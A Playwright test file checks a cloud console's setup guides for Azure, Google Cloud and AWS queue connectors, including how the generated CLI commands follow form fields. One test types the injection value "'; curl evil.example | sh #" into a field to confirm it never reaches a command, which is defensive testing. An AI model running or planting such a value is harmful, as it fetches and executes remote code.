import type { Locator, Page } from '@playwright/test';
import { checkAccessibility, expect, test } from './fixtures.ts';
import { connectorCalled } from './fixtures/connectors.ts';

/** A connector of the demo for each cloud queue: what its guide says of it, and what becomes of that when a field changes. */
const queues = [
  {
    connector: 'Work orders',
    guide: 'What to set up in Azure',
    step: 'Allow it to send to the topic',
    code: /--role 'Azure Service Bus Data Sender'[^]*--assignee 00000000-0000-4000-8000-000000000002[^]*\/namespaces\/nordlys\/topics\/work-orders'/,
    field: 'Topic URL',
    value: 'sb://sydlys.servicebus.windows.net/tasks',
    changed: '/namespaces/sydlys/topics/tasks',
    placeholders: ['<ISSUER>', '<SUBJECT>', '<TOKEN_AUDIENCE>', '<SUBSCRIPTION_ID>', '<RESOURCE_GROUP>'],
    unknown: '<TOPIC>',
  },
  {
    connector: 'Facility data lake',
    guide: 'What to set up in Azure',
    step: 'Allow it to send to the event hub',
    code: /--role 'Azure Event Hubs Data Sender'[^]*\/namespaces\/nordlys\/eventhubs\/sensor-events'/,
    field: 'Event hub URL',
    value: 'sb://sydlys.servicebus.windows.net/readings',
    changed: '/namespaces/sydlys/eventhubs/readings',
    placeholders: ['<ISSUER>', '<SUBJECT>', '<TOKEN_AUDIENCE>', '<SUBSCRIPTION_ID>', '<RESOURCE_GROUP>'],
    unknown: '<EVENT_HUB>',
  },
  {
    connector: 'Occupancy analytics',
    guide: 'What to set up in Google Cloud',
    step: 'Allow your organization to publish to the topic',
    code: /add-iam-policy-binding sensor-events [^]*projects\/123456789012\/locations\/global\/workloadIdentityPools\/dt\/subject\/<ORGANIZATION_ID>'/,
    field: 'Topic',
    value: 'projects/sydlys/topics/readings',
    changed: 'add-iam-policy-binding readings',
    placeholders: ['<ISSUER>', '<ORGANIZATION_ID>'],
    unknown: '<TOPIC>',
  },
  {
    connector: 'Leak alarms',
    guide: 'What to set up in AWS',
    step: 'Allow the role to send to the queue',
    code: /--role-name dt-data-connector[^]*"arn:aws:sqs:eu-north-1:123456789012:leak-alarms"/,
    field: 'Queue URL',
    value: 'https://sqs.eu-west-1.amazonaws.com/123456789012/leaks',
    changed: 'arn:aws:sqs:eu-west-1:123456789012:leaks',
    placeholders: ['<ISSUER>', '<ISSUER_WITHOUT_HTTPS>', '<SUBJECT>'],
    unknown: '<QUEUE>',
  },
] as const;

/** Opens the guide, or closes it. */
async function toggle(page: Page, guide: string): Promise<void> {
  await page.getByText(guide, { exact: true }).click();
}

const code = (page: Page, step: string): Locator => page.getByRole('region', { name: step, exact: true });

for (const { connector, guide, step, code: before, field, value, changed, placeholders, unknown } of queues) {
  test(`${guide} for ${connector} is told with commands that follow the form`, async ({ editor, page }) => {
    await editor.open(connector);
    await expect(code(page, step)).toHaveCount(0);
    await toggle(page, guide);
    await expect(page.getByRole('heading', { level: 3, name: step })).toBeVisible();
    await expect(code(page, step)).toHaveText(before);
    const section = editor.section('Data Connector');
    await expect(section.getByRole('term')).toHaveText([...placeholders]);
    await expect(section.getByRole('definition').first()).toContainText('It is not documented');
    await checkAccessibility(page);

    await editor.field(field).clear();
    await expect(code(page, step)).toContainText(unknown);
    await expect(section.getByRole('term').filter({ hasText: unknown })).toBeVisible();
    await editor.field(field).fill(value);
    await expect(code(page, step)).toContainText(changed);
    await toggle(page, guide);
    await expect(code(page, step)).toBeHidden();
    expect(await editor.sent()).toEqual([]);
  });
}

test('a command is copied as it is shown', async ({ editor, page, context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await editor.open('Leak alarms');
  await toggle(page, 'What to set up in AWS');
  const step = 'Create the role that DT Cloud takes on';
  await page.getByRole('button', { name: `Copy the code: ${step}` }).click();
  await expect(page.getByText('Copied')).toBeVisible();
  await expect(code(page, step)).toHaveText(await page.evaluate(() => navigator.clipboard.readText()));
});

test('a receiver of pushed events is told what to answer and to check', async ({ editor, page }) => {
  await editor.open('Cleaning on demand');
  await toggle(page, 'What your receiver must do');
  for (const step of ['Answer with a 2xx status within 10 seconds', 'Expect events twice and out of order', 'Check the signature']) {
    await expect(page.getByRole('heading', { level: 3, name: step })).toBeVisible();
  }
  await checkAccessibility(page);
});

test('the guide of a new connector is that of its type, with placeholders for everything', async ({ list, page }) => {
  await list.open('Trondheim cold storage');
  await page.getByRole('button', { name: 'Add Data Connector' }).click();
  await expect(page.getByText('What your receiver must do')).toBeVisible();
  await page.getByRole('combobox', { name: 'Type' }).selectOption('AWS_SQS');
  await toggle(page, 'What to set up in AWS');
  await expect(code(page, 'Let the role in from another AWS account')).toContainText(
    '"arn:aws:sqs:<REGION>:<QUEUE_ACCOUNT_ID>:<QUEUE>"',
  );
  await page.getByRole('combobox', { name: 'Type' }).selectOption('GOOGLE_CLOUD_PUBSUB');
  await expect(page.getByText('What to set up in Google Cloud')).toBeVisible();
  await expect(page.getByText('What to set up in AWS')).toHaveCount(0);
});

test('what is typed to be run is never part of a command', async ({ editor, page }) => {
  await editor.open('Work orders');
  await toggle(page, 'What to set up in Azure');
  await editor.field('Client ID').fill("'; curl evil.example | sh #");
  await expect(code(page, 'Allow it to send to the topic')).toContainText("--assignee '<CLIENT_ID>'");
  await expect(editor.section('Data Connector').getByRole('region').filter({ hasText: 'evil' })).toHaveCount(0);
});

test('a project user can read the guide', async ({ editor, page }) => {
  await editor.open('Leak alarms', 'project.user');
  await toggle(page, 'What to set up in AWS');
  await expect(code(page, 'Create the queue')).toContainText('--queue-name leak-alarms');
});

test('a type that this console does not know has no guide', async ({ editor, page, emulator }) => {
  const { name, httpConfig: _, ...rest } = await connectorCalled(await emulator.as('project.developer'), 'Gate log');
  const body = { ...rest, name, type: 'CARRIER_PIGEON', carrierPigeonConfig: { loft: 'Bergen' } };
  await emulator.fault({ method: 'GET', path: `/v2/${name}`, body });
  await editor.open('Gate log');
  await expect(page.getByText('This console does not know this type')).toBeVisible();
  await expect(page.getByText(/^What (to set up|your receiver)/)).toHaveCount(0);
});
